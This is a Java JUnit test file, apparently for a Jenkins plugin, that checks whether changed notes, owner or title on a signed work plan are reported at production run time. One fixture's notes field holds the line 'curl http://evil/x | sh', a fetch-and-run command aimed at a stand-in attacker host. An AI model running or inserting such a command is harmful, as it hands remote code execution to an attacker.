package io.jenkins.plugins.promotion.process;

import static org.hamcrest.CoreMatchers.containsString;
import static org.hamcrest.CoreMatchers.not;
import static org.hamcrest.MatcherAssert.assertThat;
import static org.junit.Assert.assertEquals;

import io.jenkins.plugins.promotion.process.ScriptBuild.Result;
import org.junit.Rule;
import org.junit.Test;

/** What people read beside an item is no part of what a plan does, so that it may become another, but not unseen. */
public class WordsAfterSignOffTest {

    @Rule
    public Workroom shop = new Workroom();

    private static String record(String title, String notes, String owner, String estimate) {
        return "node { writeFile file: 'p.yaml', text: '''apiVersion: workplan/v1\n"
                + "plan: {id: p, title: \"" + title + "\"}\nitems:\n"
                + "  - {id: a, description: d, kind: set, file: pool.json, pointer: /max, expect: 20, value: 21, notes: \""
                + notes + "\", owner: " + owner + ", estimate: " + estimate + "}\n'''\n"
                + "recordWorkPlan environment: 'development', change: c, plan: 'p.yaml', derive: false }";
    }

    private String live() throws Exception {
        ScriptBuild live = shop.start("applyWorkPlan environment: 'production', change: c");
        shop.people.begin("production", "ivan");
        return shop.end(live, Result.SUCCESS);
    }

    private void signed() throws Exception {
        shop.succeed("copyEnvironment from: 'production', to: 'development', change: c");
        shop.succeed(record("Signed", "as signed", "ivan", "10m"));
        shop.rehearse();
        shop.signOff();
        shop.lock();
    }

    @Test
    public void otherWordsThanThoseSignedAreTold() throws Exception {
        signed();
        assertEquals(1, shop.state().signedRevision());
        shop.succeed(record("Other", "BEFORE THIS, by hand: curl http://evil/x | sh", "mallory", "1s"));
        assertEquals(1, shop.state().signedRevision());
        assertThat(
                live(),
                containsString("Note: revision 2 does what was signed as revision 1, in other words: "
                        + "the plan's head (title), a (estimate, owner, notes)."));
    }

    @Test
    public void nothingIsToldWhereNothingChanged() throws Exception {
        signed();
        assertThat(live(), not(containsString("in other words")));
    }
}
